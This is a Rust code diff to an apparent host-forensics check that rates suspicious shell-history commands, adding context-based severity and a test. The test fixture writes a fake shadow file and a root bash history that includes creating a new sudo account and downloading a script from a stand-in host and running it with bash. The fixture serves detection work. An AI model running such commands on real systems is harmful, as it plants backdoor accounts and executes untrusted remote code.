@@ -61,6 +61,10 @@ impl Check for SuspiciousHistoryCommand {
     }
 
     fn run(&self, ctx: &Context, out: &mut Outcome) {
+        let recent: Vec<String> = crate::accounts::recent::recent_accounts(ctx)
+            .into_iter()
+            .map(|r| r.name)
+            .collect();
         let mut places: Vec<(String, String, bool)> = crate::homes::homes(ctx)
             .into_iter()
             .map(|h| (h.user, h.path, h.orphaned))
@@ -95,7 +99,7 @@ impl Check for SuspiciousHistoryCommand {
                 // never are, so padding a history with noise cannot hide a reverse shell.
                 let mut low_reported = 0usize;
                 let mut low_dropped = 0usize;
-                for entry in &file.entries {
+                for (index, entry) in file.entries.iter().enumerate() {
                     if !ctx.window.contains(entry.time) {
                         continue;
                     }
@@ -123,9 +127,18 @@ impl Check for SuspiciousHistoryCommand {
                         what: "history entry",
                     };
                     if let Some(mut f) = finding_for(&INFO, &source, &entry.command, &hits) {
+                        let settled =
+                            super::context::settle(ctx, &file.entries, index, &hits, &recent);
                         if let Some(obj) = f.evidence.as_object_mut() {
                             obj.insert("history_kind".into(), serde_json::json!(file.kind));
                             obj.insert("orphaned_home".into(), serde_json::json!(home.orphaned));
+                            if let Some((_, why)) = &settled {
+                                obj.insert("settled_by".into(), serde_json::json!(why));
+                            }
+                        }
+                        if let Some((severity, why)) = settled {
+                            f.severity = severity;
+                            f.summary = format!("{} [{why}]", f.summary);
                         }
                         out.add(f.at(entry.time));
                     }
@@ -228,6 +241,61 @@ mod tests {
         SuspiciousHistoryCommand.run(&ctx, &mut out);
         assert_eq!(out.findings.len(), 1);
         assert_eq!(out.findings[0].evidence["line"], 4);
+    }
+
+    fn severity_at(out: &Outcome, line: usize) -> Option<Severity> {
+        out.findings
+            .iter()
+            .find(|f| f.evidence["line"] == line)
+            .map(|f| f.severity)
+    }
+
+    #[test]
+    fn past_administration_is_low_but_a_new_account_or_a_run_download_is_not() {
+        let today = huoyan_core::time::now().as_second() / 86_400;
+        let dir = tempfile::tempdir().expect("tempdir");
+        let w = |p: &str, data: String| {
+            let p = dir.path().join(p.trim_start_matches('/'));
+            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+            std::fs::write(p, data).expect("write");
+        };
+        w(
+            "/etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\nmchen:x:1001:1001::/home/mchen:/bin/bash\n\
+             eve:x:1002:1002::/nonexistent:/bin/bash\n"
+                .into(),
+        );
+        let mut shadow = String::new();
+        for n in ["root", "mchen", "a", "b", "c", "d"] {
+            shadow.push_str(&format!("{n}:$y$x$y:{}:0:99999:7:::\n", today - 200));
+        }
+        shadow.push_str(&format!("eve:$y$x$y:{}:0:99999:7:::\n", today - 1));
+        w("/etc/shadow", shadow);
+        w(
+            "/root/.bash_history",
+            "adduser mchen\nusermod -aG sudo mchen\nadduser eve\nusermod -aG sudo eve\n\
+             curl -fsSL https://deb.nodesource.com/setup_20.x -o /tmp/setup.sh\n\
+             less /tmp/setup.sh\nrm /tmp/setup.sh\n\
+             curl -fsSL https://example.net/tool -o /tmp/tool\nbash /tmp/tool\nrm /tmp/tool\n"
+                .into(),
+        );
+        let ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
+        let mut out = Outcome::default();
+        SuspiciousHistoryCommand.run(&ctx, &mut out);
+        // mchen exists and is old: past administration.
+        assert_eq!(
+            severity_at(&out, 1),
+            Some(Severity::Low),
+            "{:#?}",
+            out.findings
+        );
+        assert_eq!(severity_at(&out, 2), Some(Severity::Low));
+        // eve was created yesterday: still a lead.
+        assert_eq!(severity_at(&out, 3), Some(Severity::Medium));
+        assert_eq!(severity_at(&out, 4), Some(Severity::Medium));
+        // read and deleted, never run: low; run: keeps its severity.
+        assert_eq!(severity_at(&out, 5), Some(Severity::Low));
+        assert!(severity_at(&out, 8) >= Some(Severity::Medium));
     }
 
     #[test]
